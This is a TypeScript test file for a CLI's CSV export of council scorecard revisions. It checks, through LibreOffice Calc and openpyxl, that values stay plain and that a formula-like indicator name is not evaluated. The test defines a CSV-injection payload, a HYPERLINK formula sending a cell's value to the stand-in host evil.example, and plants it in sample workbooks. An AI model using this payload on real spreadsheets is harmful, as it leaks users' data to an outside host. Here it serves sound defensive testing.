/**
 * What an analyst sees when `scorecard revisions --csv` is opened in a spreadsheet: every
 * cell the plain value (numbers as numbers, no apostrophes), and an indicator name written
 * as a formula shown as text, never run. Opened by LibreOffice Calc (headless, CSV import
 * with formulas evaluated, its default) and read back with openpyxl: neither is ours.
 *
 * Skipped where LibreOffice is missing, except on CI (CI=true), where it fails.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { EXIT } from '../../src/cli/messages';
import { CSV_HEADER } from '../../src/cli/report';
import { buildCli, removeBuild, run, sample, tempDir } from './runCli';

const PYTHON = '/usr/bin/python3';
const hasSoffice = spawnSync('soffice', ['--version'], { encoding: 'utf8', timeout: 60_000 }).status === 0;
const onCi = process.env.CI === 'true';

/** Opens a CSV as Calc does (comma, double quote, UTF-8, from line 1) and saves it as .xlsx. */
function calcOpens(csv: string, dir: string): string {
  const profile = join(dir, 'profile');
  const result = spawnSync(
    'soffice',
    ['--headless', '--norestore', `-env:UserInstallation=file://${profile}`, '--infilter=CSV:44,34,76,1', '--convert-to', 'xlsx', '--outdir', join(dir, 'calc'), csv],
    { encoding: 'utf8', timeout: 180_000, env: { ...process.env, HOME: profile } },
  );
  const out = join(dir, 'calc', csv.replace(/^.*\//, '').replace(/\.csv$/, '.xlsx'));
  if (!existsSync(out)) throw new Error(`soffice produced nothing: ${result.stderr}`);
  return out;
}

type Cell = [value: string | number | null, type: string];

/** Every cell of the first sheet as openpyxl reads it: its value and its type (n, s, f). */
function cells(xlsx: string): Cell[][] {
  const py = spawnSync(
    PYTHON,
    ['-c', 'import sys, json, openpyxl\nws = openpyxl.load_workbook(sys.argv[1]).active\nprint(json.dumps([[[c.value, c.data_type] for c in row] for row in ws.iter_rows()]))', xlsx],
    { encoding: 'utf8', timeout: 60_000 },
  );
  if (py.status !== 0) throw new Error(py.stderr);
  return JSON.parse(py.stdout) as Cell[][];
}

const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Contacts")';

/** A sample with the name of indicator 1.1 replaced by a formula, as a hostile edit would. */
function withHostileName(name: string, dir: string): string {
  const parts = unzipSync(new Uint8Array(readFileSync(sample(name))));
  const sst = new TextDecoder().decode(parts['xl/sharedStrings.xml']);
  const escaped = HOSTILE.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
  const changed = sst.replace(/<t>Early Help Contacts received during the reporting month[^<]*<\/t>/, `<t>${escaped}</t>`);
  expect(changed).not.toBe(sst);
  parts['xl/sharedStrings.xml'] = strToU8(changed);
  const out = join(dir, name);
  writeFileSync(out, zipSync(parts));
  return out;
}

const suite = hasSoffice ? describe : onCi ? describe : describe.skip;

suite('revisions --csv opened in a spreadsheet', () => {
  let cli: string;
  beforeAll(() => {
    if (!hasSoffice) throw new Error('soffice (LibreOffice) is not installed: on Debian, apt-get install libreoffice-calc-nogui. This test must run on CI.');
    cli = buildCli('csv');
  }, 120_000);
  afterAll(() => cli && removeBuild(cli));

  it('reads every cell as the plain value and shows a formula-like indicator name as text', () => {
    const dir = tempDir();
    const published = withHostileName('early-help-published-2020-11.xlsx', dir);
    const current = withHostileName('early-help-2020-12.xlsx', dir);
    const result = run(cli, ['revisions', published, current, '--csv']);
    expect(result.code).toBe(EXIT.ok);
    const csv = join(dir, 'revisions.csv');
    writeFileSync(csv, result.stdout);

    const rows = cells(calcOpens(csv, dir));
    expect(rows[0]!.map(([v]) => v)).toEqual(CSV_HEADER);
    const byRef = new Map(rows.slice(1).map((r) => [String(r[1]![0]), r]));
    const col = (name: string): number => CSV_HEADER.indexOf(name);

    // The hostile name: text as written (after the guard's apostrophe), not a formula.
    const contacts = byRef.get('1.1')!;
    expect(contacts[col('indicator')]).toEqual([`'${HOSTILE}`, 's']);
    expect(contacts[col('published')]).toEqual([321, 'n']);
    expect(contacts[col('change')]).toEqual([4, 'n']);
    // The month reads as its month (ISO text), never as 20 October of this year.
    expect(contacts[col('month')]).toEqual(['2020-10', 's']);
    // A percentage row: the figures are numbers, the change 0.4 percentage points.
    const initial = byRef.get('2.2')!;
    expect(initial[col('published')]).toEqual([0.885, 'n']);
    expect(initial[col('current_value')]).toEqual([0.889, 'n']);
    expect(initial[col('change')]).toEqual([0.4, 'n']);
    expect(initial[col('change_unit')]).toEqual(['pts', 's']);
    // A grouped figure is the number it shows.
    expect(byRef.get('4.1')![col('published')]).toEqual([1335, 'n']);
    // A placeholder stays the text it is; its change is empty, the figures say what changed.
    const audits = byRef.get('12.1')!;
    expect(audits[col('published')]).toEqual(['TBC', 's']);
    expect(audits[col('change')]![0]).toBeNull();
    // Nowhere a formula, nowhere a stray apostrophe on a figure or the report's own fields.
    for (const row of rows) {
      for (const [i, [value, type]] of row.entries()) {
        expect(`${CSV_HEADER[i]} ${type}`).not.toBe(`${CSV_HEADER[i]} f`);
        if (CSV_HEADER[i] !== 'indicator' && typeof value === 'string') expect(value.startsWith("'") && !value.startsWith("'Dec-20'")).toBe(false);
      }
    }
  }, 300_000);

  it('would run the name as a formula without the guard (the check above can fail)', () => {
    const dir = tempDir();
    const csv = join(dir, 'unguarded.csv');
    writeFileSync(csv, `indicator\r\n"${HOSTILE.replace(/"/g, '""')}"\r\n`);
    expect(cells(calcOpens(csv, dir))[1]![0]![1]).toBe('f');
  }, 300_000);
});
